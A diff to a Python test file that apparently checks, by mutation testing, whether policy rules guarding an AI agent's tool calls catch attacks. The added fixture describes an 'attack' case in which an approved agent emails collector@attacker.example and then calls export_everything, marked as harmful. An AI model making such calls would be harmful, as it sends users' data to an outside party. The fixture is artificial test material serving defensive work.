@@ -39,7 +39,25 @@ class Prove(yett.InScratchFolder):
         printed = out(run("prove", "-p", DESKMATE, EXAMPLE)).strip()
         self.assertIn(printed, (yett.SOURCE / "docs/prove.md").read_text())
 
-    def test_the_first_descriptions_two_mutations_are_among_them(self):
+    def test_what_runs_now_is_not_redundant(self):
+        """The rule of an attack changed because it runs, or of a call that does no harm."""
+        suite = self.write("weak.cases.toml", """
+[[case]]
+name = "approved to an attacker"
+kind = "attack"
+session = { tenant = "acme" }
+approver = "approve"
+[[case.call]]
+tool = "send_email"
+arguments = { to = "collector@attacker.example", subject = "s", body = "b" }
+[[case.call]]
+tool = "export_everything"
+harm = true
+""")
+        by_name = {mutant["name"]: mutant for mutant in self.prove(suite)["results"]}
+        self.assertEqual(by_name["rule-off: destination.unlisted"]["fate"], "survived")
+
+    def test_the_mutations_of_the_demo_are_among_them(self):
         by_name = {mutant["name"]: mutant for mutant in self.prove(EXAMPLE)["results"]}
         listed = by_name["allow-attacker-domain: emails lists attacker.example"]
         self.assertEqual((listed["fate"], listed["by_attack"]), ("killed", True))
